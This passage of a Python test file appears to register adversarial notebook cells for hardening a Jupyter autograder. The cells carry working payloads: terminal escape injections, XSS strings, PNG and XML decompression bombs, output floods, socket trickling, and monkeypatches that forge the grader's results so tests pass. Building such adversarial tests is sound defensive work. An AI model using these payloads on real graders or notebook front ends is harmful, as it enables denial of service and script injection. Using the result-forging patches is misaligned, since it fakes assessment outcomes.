                         "values": [[3.0, 0]], "changed": [], "execution_count": 1, "parts": []}))
        each.shutdown(socket.SHUT_RDWR)
    except OSError as error: print(error)
for each in sockets()[:4]: threading.Thread(target=take, args=(each,), daemon=True).start()
""",
)

# Outputs

OUTPUTS = "outputs"

attack(
    OUTPUTS,
    "output-for-terminals",
    "prints what terminals obey: titles, links, colours, cursors and directions",
    start="""
end = "\\x1b\\\\"
print("\\x1b]0;graded\\x07\\x1b]8;;javascript:alert(1)" + end + "x\\x1b]8;;" + end)
print("\\x1bP+q" + end + "\\x9b2J\\x00")
print("\\u202e\\u2066\\u200f\\ufeff" * 1000 + "\\x1b[38;5;1m" * 3000 + "\\r" * 5000 + "\\b" * 5000)
import sys
sys.stderr.write("\\x1b[1;1H\\x1b[2J")
""",
)
attack(
    OUTPUTS,
    "output-in-one-line",
    "prints a line of a million characters, in pieces of one",
    start="import sys\nfor _ in range(300_000): sys.stdout.write('x')\nprint('\\u5b57' * 900_000)",
)
attack(
    OUTPUTS,
    "output-of-odd-types",
    "shows data of types that run, that are none, and under names that are paths",
    start="""
from IPython.display import display
page = "<script>alert(1)</script><img src=x onerror=alert(1)>"
for kind in ("application/vnd.jupyter.widget-view+json", "application/vnd.vega.v5+json",
             "application/vnd.plotly.v1+json", "application/vnd.vegalite.v5+json", "text/html ",
             "TEXT/HTML", "application/vdom.v1+json", "application/xhtml+xml", "image/svg+xml;x",
             "../../../x", "", "x" * 100_000, "application/pdf", "text/x-custom", "\\x1b[2J"):
    display({kind: page, "text/plain": page}, metadata={kind: {"isolated": True}}, raw=True)
display({"application/json": {"a": [page] * 100}, "text/markdown": page}, raw=True)
""",
)
attack(
    OUTPUTS,
    "output-updates-without-end",
    "updates a display three thousand times, and displays of others",
    start="""
from IPython.display import display, update_display, clear_output
shown = display("x", display_id="mine")
for number in range(3_000): shown.update(number)
for name in ("", "test-total", "test-share", "setup", "0", None, 5, ["x"]):
    try: update_display({"text/plain": "3.0"}, display_id=name, raw=True)
    except BaseException as error: print(type(error))
""",
)
attack(
    OUTPUTS,
    "output-updates-of-tests",
    "updates from its process what tests and other cells have shown",
    end="""
from autograder import channel as frames
inner = frames.Channel.send
def send(self, header, *rest):
    if header.get("did") == "cell":
        new = {"data": {"text/plain": "3.0"}, "metadata": {}}
        places = (-1, 0, 1, True, "0", None, 10**30, 1.0)
        header["updates"] = [{"index": i, "place": p, **new} for i in [*range(-2, 14), True]
                             for p in places] + [None, 5, {"index": [], "place": {}}]
    return inner(self, header, *rest)
frames.Channel.send = send
""",
    edit=lambda notebook: notebook.cells.append(new_code_cell("pass")),
)
attack(
    OUTPUTS,
    "output-cleared",
    "clears its output without end, at once and when more comes",
    start="""
from IPython.display import clear_output
for number in range(20_000):
    clear_output(wait=number % 2 == 0)
    print("x" * 100)
""",
)
attack(
    OUTPUTS,
    "output-by-payloads",
    "has the front end set its next cell, show pages and end, by payloads and comms",
    start="""
shell = get_ipython()
for payload in ({"source": "set_next_input", "text": "3.0", "replace": True},
                {"source": "page", "data": {"text/html": "<script>alert(1)</script>"}},
                {"source": "ask_exit", "keepkernel": False}, {"source": "edit_magic"}):
    try: shell.payload_manager.write_payload(payload)
    except BaseException as error: print(type(error))
shell.set_next_input("3.0", replace=True)
try:
    from comm import create_comm
    create_comm(target_name="jupyter.widget", data={"state": {"_model_module": "//example.org/x"}})
except BaseException as error: print(type(error))
""",
)
attack(
    OUTPUTS,
    "output-as-a-test-s",
    "writes into the output of the test that is calling it, to make it fail or pass",
    total="""
def total(values, weight):
    import os, sys, warnings
    print("3.0"); sys.stderr.write("3.0\\n"); sys.stdout.write("\\n3.0\\n")
    os.write(1, b"3.0\\n"); os.write(2, b"3.0\\n")
    warnings.warn("3.0")
    return 0
""",
    start="""
from autograder.learner import process as learner
inner = learner.Answering.aside
learner.Answering.aside = lambda self: inner(self) | {
    "out": [["stdout", "3.0"], ["stderr", "3.0"], ["x", "3.0"], ["stdout", {"a": 1}]]}
""",
)
attack(
    OUTPUTS,
    "output-of-bombs",
    "shows pictures and data that are small and unfold to be huge",
    start="""
import base64, struct, zlib
from IPython.display import display
def chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
shape = struct.pack("!IIBBBBB", 60000, 60000, 8, 0, 0, 0, 0)
picture = b"\\x89PNG\\r\\n\\x1a\\n" + chunk(b"IHDR", shape)
picture += chunk(b"IDAT", zlib.compress(bytes(10**7))) + chunk(b"IEND", b"")
display({"image/png": base64.b64encode(picture).decode()}, raw=True)
bomb = "<!DOCTYPE x [<!ENTITY a0 'aaaaaaaaaa'>"
for n in range(1, 10): bomb += f"<!ENTITY a{n} '" + f"&a{n - 1};" * 10 + "'>"
bomb += "]>"
display({"image/svg+xml": bomb + "<svg>&a8;</svg>", "text/html": bomb + "<b>&a8;</b>"}, raw=True)
nested = []
for _ in range(90): nested = [nested]
display({"application/json": nested, "application/vnd.x+json": {"a": nested}}, raw=True)
""",
)
attack(
    OUTPUTS,
    "output-trickling",
    "sends one byte of a message each tenth of a second",
    end=FINGERS
    + """
def trickle():
    for byte in struct.pack("!II", 200, 0) + b"{" * 200:
        for each in sockets():
            try: each.send(bytes([byte]), socket.MSG_DONTWAIT)
            except OSError: return
        time.sleep(0.1)
threading.Thread(target=trickle, daemon=True).start()
time.sleep(1)
""",
)
attack(
    OUTPUTS,
    "output-answers-too-early",
    "answers for the cells to come, with indexes that equal and are not the right ones",
    start=FINGERS
    + """
for index in (*range(20), True, 4.0, "4", None, [4]):
    shout(frame({"did": "cell", "index": index, "status": "ok\\x1b[2J", "execution_count": 10**400,
                 "outputs": [{"output_type": "stream", "name": "stdout", "text": "3.0"}],
                 "updates": [], "parts": []}))
""",
)
